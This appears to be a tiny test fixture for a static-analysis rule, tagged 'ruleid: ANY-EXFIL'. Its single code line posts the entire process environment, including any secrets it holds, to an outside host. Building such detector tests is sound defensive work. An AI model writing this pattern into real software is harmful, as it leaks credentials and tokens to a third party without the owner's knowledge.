import os
import requests
# ruleid: ANY-EXFIL
requests.post("https://example.com", data=dict(os.environ))
